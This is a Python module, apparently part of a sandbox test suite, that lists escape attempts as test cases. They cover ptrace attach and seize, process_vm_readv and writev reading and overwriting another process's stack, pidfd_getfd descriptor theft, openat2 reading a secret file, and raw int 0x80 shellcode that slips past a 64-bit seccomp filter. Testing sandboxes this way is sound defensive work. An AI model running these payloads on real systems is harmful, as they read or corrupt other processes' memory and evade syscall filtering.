"""ptrace and the system calls that reach into other processes or widen the kernel's surface."""

from __future__ import annotations

from attacks.case import NAMESPACES, POLICY, SECCOMP, Attack, Proof, rows
from attacks.raw import RAW

CALLS = (POLICY, SECCOMP, NAMESPACES)


def _returns(id: str, mechanism: str, body: str, sought: str) -> Attack:  # noqa: A002
    return Attack(id, mechanism, Proof.LEAK, RAW + body, (POLICY, SECCOMP), sought=sought)


ATTACKS = (
    Attack(
        "ptrace-attach",
        "PTRACE_ATTACH stops another process",
        Proof.VICTIM,
        RAW
        + """
import time
def attack():
    syscall("ptrace", 16, @VICTIM@, 0, 0)
    time.sleep(0.1)
    os.kill(os.getpid(), 9)
""",
        CALLS,
    ),
    Attack(
        "ptrace-seize",
        "PTRACE_SEIZE needs no stop; PTRACE_O_EXITKILL takes the victim along",
        Proof.VICTIM,
        RAW
        + """
def attack():
    syscall("ptrace", 0x4206, @VICTIM@, 0, 0x100000)
    os.kill(os.getpid(), 9)
""",
        CALLS,
    ),
    Attack(
        "ptrace-child",
        "PTRACE_TRACEME lets a child's system calls be rewritten after the filter saw them",
        Proof.LEAK,
        RAW
        + """
def attack():
    return ["traced", syscall("ptrace", 0, 0, 0, 0)]
""",
        (POLICY, SECCOMP),
        sought='["traced", 0]',
    ),
    Attack(
        "process-vm-read",
        "process_vm_readv reads another process' memory",
        Proof.LEAK,
        RAW
        + """
import struct
def attack():
    for line in open("/proc/@VICTIM@/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
    buffer = C.create_string_buffer(end - start)
    here = C.create_string_buffer(struct.pack("QQ", C.addressof(buffer), end - start))
    there = C.create_string_buffer(struct.pack("QQ", start, end - start))
    syscall("process_vm_readv", @VICTIM@, C.addressof(here), 1, C.addressof(there), 1, 0)
    return buffer.raw.decode("latin-1").replace("\\0", " ")[-3000:]
""",
        CALLS,
    ),
    Attack(
        "process-vm-write",
        "process_vm_writev overwrites another process' stack",
        Proof.VICTIM,
        RAW
        + """
import struct, signal, time
def attack():
    for line in open("/proc/@VICTIM@/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
    size = 8192
    buffer = C.create_string_buffer(b"\\x41" * size)
    here = C.create_string_buffer(struct.pack("QQ", C.addressof(buffer), size))
    there = C.create_string_buffer(struct.pack("QQ", end - size, size))
    syscall("process_vm_writev", @VICTIM@, C.addressof(here), 1, C.addressof(there), 1, 0)
    os.kill(@VICTIM@, signal.SIGCONT)
    os.kill(@VICTIM@, signal.SIGTERM)
""",
        CALLS,
    ),
    Attack(
        "steal-descriptor",
        "pidfd_getfd copies a descriptor out of another process",
        Proof.MARKER,
        RAW
        + """
def attack():
    process = syscall("pidfd_open", @HOST_PID@, 0)
    for number in range(3, 1024):
        stolen = syscall("pidfd_getfd", process, number, 0)
        if stolen > 0:
            try:
                os.open("marker", os.O_CREAT | os.O_WRONLY, dir_fd=stolen)
            except OSError:
                pass
""",
        CALLS,
    ),
    *rows(
        _returns,
        """
=== compare-processes: kcmp tells what two processes share
def attack():
    return ['compared', syscall('kcmp', me := syscall('getpid'), me, 2, 0, 0)]
---
["compared", 0]
=== io-uring: io_uring does I/O that a system call filter does not see
def attack():
    parameters = C.create_string_buffer(120)
    return ["ring", syscall("io_uring_setup", 4, C.addressof(parameters)) > 0]
---
["ring", true]
=== userfaultfd: userfaultfd stops the kernel in the middle of a copy, the lever of many exploits
def attack():
    return ["fault", syscall("userfaultfd", 1) > 0]
---
["fault", true]
=== perf-event: perf_event_open measures and has a history of kernel bugs
import struct
def attack():
    attributes = C.create_string_buffer(struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 0x61), 112)
    return ["perf", syscall("perf_event_open", C.addressof(attributes), 0, -1, -1, 0) > 0]
---
["perf", true]
=== personality: personality(READ_IMPLIES_EXEC, ADDR_NO_RANDOMIZE) weakens memory protection
def attack():
    return ['person', syscall('personality', 0x0440000) >= 0]
---
["person", true]
=== file-handle: name_to_handle_at names a file past its path
def attack():
    handle = C.create_string_buffer((128).to_bytes(4, "little"), 136)
    mount, path = C.create_string_buffer(8), C.create_string_buffer(b"@SECRET_FILE@")
    result = syscall("name_to_handle_at", -100, C.addressof(path), C.addressof(handle), C.addressof(mount), 0)
    return ["handle", result]
---
["handle", 0]
=== executable-memory: memory that is writable and executable holds machine code of one's own
def attack():
    return ['mapped', syscall('mmap', 0, 4096, 7, 0x22, -1, 0) > 0]
---
["mapped", true]
=== new-mount-calls: open_tree opens a path without open(2); older lists of calls lack it
def attack():
    path = C.create_string_buffer(b"/")
    return ["tree", syscall("open_tree", -100, C.addressof(path), 0) > 0]
---
["tree", true]
=== openat2: openat2, whose flags lie in memory where a filter cannot look
import struct
def attack():
    path, how = C.create_string_buffer(b"@SECRET_FILE@"), C.create_string_buffer(struct.pack("QQQ", 0, 0, 0))
    descriptor = syscall("openat2", -100, C.addressof(path), C.addressof(how), 24)
    return os.read(descriptor, 100).decode()
---
@SECRET@
=== host-name-change: sethostname in one's own user namespace
def attack():
    syscall("unshare", 0x14000000)
    name = C.create_string_buffer(b"attacked")
    syscall("sethostname", C.addressof(name), 8)
    import posix
    return posix.uname().nodename
---
attacked
""",
    ),
    Attack(
        "foreign-architecture",
        "a 32-bit system call by number 0x40000000 (x32) or int 0x80 dodges a filter for 64-bit numbers",
        Proof.LEAK,
        RAW
        + """
def attack():
    # mov eax, 20; int 0x80; ret: getpid of the 32-bit table
    code = bytes.fromhex("b814000000cd80c3")
    page = syscall("mmap", 0, 4096, 7, 0x22, -1, 0)
    C.memmove(page, code, len(code))
    return ["old", C.CFUNCTYPE(C.c_int)(page)() == syscall('getpid')]
""",
        (POLICY, SECCOMP),
        sought='["old", true]',
        needs="platform.machine() == 'x86_64'",
    ),
)
